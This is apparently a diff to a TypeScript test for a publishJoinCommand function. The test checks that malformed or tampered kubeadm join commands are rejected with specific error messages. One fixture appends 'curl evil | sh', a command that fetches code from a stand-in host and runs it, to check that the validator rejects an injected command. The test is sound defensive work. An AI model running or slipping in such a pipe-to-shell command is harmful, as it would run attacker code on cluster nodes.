@@ -89,9 +89,20 @@ t.test("what is no join-command is not published, nor shown", async (t) => {
   ])
     await t.rejects(
       publishJoinCommand(JOBID, text, world),
-      new Error("what make join-command made is no join-command of kubeadm's"),
+      {
+        message:
+          /^what make join-command made is no join-command of kubeadm's: (it is empty|it must have one line kubeadm join|it has 9[0-9]{3} characters, of at most 8192|line [1-7] of [1-7] is neither a kubeadm join with a token and a CA hash nor the template's)$/,
+      },
       JSON.stringify(text).slice(0, 100),
     );
+  for (const [text, why] of [
+    [" \n", "it is empty"],
+    [AROUND, "it must have one line kubeadm join"],
+    [JOIN_COMMAND + JOIN_COMMAND, "it must have one line kubeadm join"],
+    [JOIN_COMMAND.slice(0, 70), "line 1 of 1 is neither"],
+    [`${JOIN_COMMAND}curl evil | sh\n`, "line 2 of 3 is neither"],
+  ] as const)
+    await t.rejects(publishJoinCommand(JOBID, text, world), { message: `: ${why}` });
   t.strictSame(nodes.commands, []);
 });
 
